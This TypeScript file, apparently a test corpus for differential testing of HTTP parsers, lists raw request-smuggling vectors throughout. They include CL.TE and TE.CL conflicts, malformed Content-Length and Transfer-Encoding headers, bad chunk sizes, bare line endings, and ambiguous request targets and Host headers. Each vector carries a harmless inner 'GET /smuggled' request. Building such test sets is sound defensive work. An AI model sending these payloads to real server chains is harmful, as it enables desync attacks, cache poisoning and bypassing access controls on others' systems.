// Requests that two servers in a row read differently, so that the second takes a part of one for another: from what is
// publicly known to have worked somewhere. The part that would be smuggled asks for /smuggled.

export interface Smuggled {
  readonly name: string
  /** One character per byte. */
  readonly bytes: string
}

const INNER = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"

/** A POST with these unchanged header lines, and this text after the empty line. */
function post(lines: readonly string[], body: string, eol = "\r\n"): string {
  return ["POST /upload HTTP/1.1", "Host: a", ...lines, "", body].join(eol)
}

function chunked(...more: readonly string[]): string {
  return post(["Transfer-Encoding: chunked", ...more], `0\r\n\r\n${INNER}`)
}

function withBody(body: string): string {
  return post(["Transfer-Encoding: chunked"], body)
}

const BOTH: Smuggled[] = [
  { name: "CL.TE", bytes: post(["Content-Length: 5", "Transfer-Encoding: chunked"], `0\r\n\r\n${INNER}`) },
  { name: "TE.CL", bytes: post(["Transfer-Encoding: chunked", "Content-Length: 4"], `0\r\n\r\n${INNER}`) },
  {
    name: "CL.0 beside TE",
    bytes: post(["Content-Length: 0", "Transfer-Encoding: chunked"], `0\r\n\r\n${INNER}`),
  },
  {
    name: "TE in HTTP/1.0",
    bytes: `POST /upload HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n${INNER}`,
  },
]

const LENGTHS: Smuggled[] = [
  ["two that differ", ["Content-Length: 0", `Content-Length: ${INNER.length}`]],
  ["two that agree", ["Content-Length: 3", "Content-Length: 3"]],
  ["a list that differs", [`Content-Length: 0, ${INNER.length}`]],
  ["a list that agrees", ["Content-Length: 3, 3"]],
  ["with a plus", ["Content-Length: +3"]],
  ["negative", ["Content-Length: -1"]],
  ["hexadecimal", ["Content-Length: 0x3"]],
  ["with a space inside", ["Content-Length: 1 3"]],
  ["with a letter behind", ["Content-Length: 3a"]],
  ["empty", ["Content-Length:"]],
  ["beyond all numbers", ["Content-Length: 99999999999999999999999"]],
  ["with a dot", ["Content-Length: 3.0"]],
  ["with an exponent", ["Content-Length: 3e0"]],
  ["with a vertical tab", ["Content-Length: \x0b3"]],
  ["with a NUL", ["Content-Length: 3\0"]],
].map(([name, lines]) => ({ name: `Content-Length ${name}`, bytes: post(lines as string[], `abc${INNER}`) }))

const ENCODINGS: Smuggled[] = [
  ["a space before the colon", "Transfer-Encoding : chunked"],
  ["a tab before the colon", "Transfer-Encoding\t: chunked"],
  ["a vertical tab before the value", "Transfer-Encoding: \x0bchunked"],
  ["a NUL in the value", "Transfer-Encoding: chun\0ked"],
  ["quotes", 'Transfer-Encoding: "chunked"'],
  ["another word", "Transfer-Encoding: xchunked"],
  ["chunked first", "Transfer-Encoding: chunked, identity"],
  ["chunked twice", "Transfer-Encoding: chunked, chunked"],
  ["identity", "Transfer-Encoding: identity"],
  ["gzip", "Transfer-Encoding: gzip"],
  ["an empty one", "Transfer-Encoding:"],
  ["a comma only", "Transfer-Encoding: ,"],
  ["folded", "Transfer-Encoding:\r\n chunked"],
  ["a fold in front", "X: y\r\n Transfer-Encoding: chunked"],
  ["a control character in its name", "Transfer\x01-Encoding: chunked"],
  ["a high byte in its name", "Transfer\xff-Encoding: chunked"],
].map(([name, line]) => ({
  name: `Transfer-Encoding with ${name}`,
  bytes: post(["Content-Length: 5", line as string], `0\r\n\r\n${INNER}`),
}))

const TWICE: Smuggled[] = [
  {
    name: "Transfer-Encoding twice, the second unknown",
    bytes: chunked("Transfer-Encoding: cow"),
  },
  {
    name: "Transfer-Encoding twice, the first unknown",
    bytes: post(["Transfer-Encoding: x", "Transfer-Encoding: chunked"], `0\r\n\r\n${INNER}`),
  },
  { name: "Transfer-Encoding twice, both chunked", bytes: chunked("Transfer-Encoding: chunked") },
]

const LINES: Smuggled[] = [
  { name: "bare LF everywhere", bytes: post(["Content-Length: 3"], `abc${INNER}`, "\n") },
  { name: "a bare LF in the request line", bytes: `GET / HTTP/1.1\nHost: a\r\n\r\n${INNER}` },
  { name: "a bare LF between headers", bytes: `GET / HTTP/1.1\r\nHost: a\nX: y\r\n\r\n${INNER}` },
  { name: "a bare CR between headers", bytes: `GET / HTTP/1.1\r\nHost: a\rX: y\r\n\r\n${INNER}` },
  { name: "a bare CR in a value", bytes: `GET / HTTP/1.1\r\nHost: a\r\nX: y\rz\r\n\r\n` },
  { name: "obs-fold", bytes: `GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n z\r\n\r\n` },
  { name: "obs-fold with a tab", bytes: `GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n\tz\r\n\r\n` },
  { name: "a header that starts with a space", bytes: `GET / HTTP/1.1\r\n Host: a\r\n\r\n` },
  { name: "a header without a colon", bytes: "GET / HTTP/1.1\r\nHost: a\r\nX\r\n\r\n" },
  { name: "a header without a name", bytes: "GET / HTTP/1.1\r\nHost: a\r\n: x\r\n\r\n" },
  { name: "a NUL in a value", bytes: "GET / HTTP/1.1\r\nHost: a\r\nX: y\0z\r\n\r\n" },
  { name: "a NUL in a name", bytes: "GET / HTTP/1.1\r\nHost: a\r\nX\0: y\r\n\r\n" },
  { name: "a space in a name", bytes: "GET / HTTP/1.1\r\nHost: a\r\nX y: z\r\n\r\n" },
]

const CHUNKS: Smuggled[] = [
  ["a size that is none", `x\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a negative size", `-1\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a size with 0x", `0x3\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a size with a plus", `+3\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["an empty size", `\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a size that overflows", `FFFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a size that wraps to 3", `100000000000000003\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a space before its size", ` 3\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a bare LF behind its size", `3\nabc\r\n0\r\n\r\n${INNER}`],
  ["a bare LF behind its data", `3\r\nabc\n0\r\n\r\n${INNER}`],
  ["a bare CR behind its size", `3\rabc\r\n0\r\n\r\n${INNER}`],
  ["more data than its size", `3\r\nabcd\r\n0\r\n\r\n${INNER}`],
  ["no end of line behind its data", `3\r\nabc0\r\n\r\n${INNER}`],
  ["a bare LF in its extension", `3;x\ny\r\nabc\r\n0\r\n\r\n${INNER}`],
  ["a bare LF as the last line", `3\r\nabc\r\n0\n\n${INNER}`],
  ["a trailer without a colon", `0\r\nX\r\n\r\n${INNER}`],
].map(([name, body]) => ({ name: `a chunk with ${name}`, bytes: withBody(body as string) }))

const TARGETS: Smuggled[] = [
  { name: "absolute-form", bytes: "GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "absolute-form of https", bytes: "GET https://a/ HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "authority-form", bytes: "GET a:80 HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "asterisk-form of GET", bytes: "GET * HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target with a space", bytes: "GET /a b HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target with a tab", bytes: "GET /a\tb HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target with a NUL", bytes: "GET /a\0b HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target with a CR", bytes: "GET /a\rb HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target with a fragment", bytes: "GET /a#b HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a target without a slash", bytes: "GET a HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "an empty target", bytes: "GET  HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "no version", bytes: "GET /\r\nHost: a\r\n\r\n" },
  { name: "a version that is none", bytes: "GET / HTTP/1.x\r\nHost: a\r\n\r\n" },
  { name: "HTTP/3.0 in words", bytes: "GET / HTTP/3.0\r\nHost: a\r\n\r\n" },
  { name: "a method that is none", bytes: "GE(T / HTTP/1.1\r\nHost: a\r\n\r\n" },
  { name: "a method unknown to all", bytes: "HELLO / HTTP/1.1\r\nHost: a\r\n\r\n" },
]

const HOSTS: Smuggled[] = [
  { name: "no Host", bytes: "GET / HTTP/1.1\r\n\r\n" },
  { name: "two Hosts", bytes: "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" },
  { name: "a Host with a path", bytes: "GET / HTTP/1.1\r\nHost: a/b\r\n\r\n" },
  { name: "a Host with a user", bytes: "GET / HTTP/1.1\r\nHost: a@b\r\n\r\n" },
  { name: "a Host with a space", bytes: "GET / HTTP/1.1\r\nHost: a b\r\n\r\n" },
  { name: "a list of Hosts", bytes: "GET / HTTP/1.1\r\nHost: a, b\r\n\r\n" },
]

/** Where one request ends and the next begins is not sure. */
export const smuggled: readonly Smuggled[] = [
  ...BOTH,
  ...LENGTHS,
  ...ENCODINGS,
  ...TWICE,
  ...LINES,
  ...CHUNKS,
]

/** The length is unambiguous, but the target or the host is not. */
export const misdirected: readonly Smuggled[] = [...TARGETS, ...HOSTS]
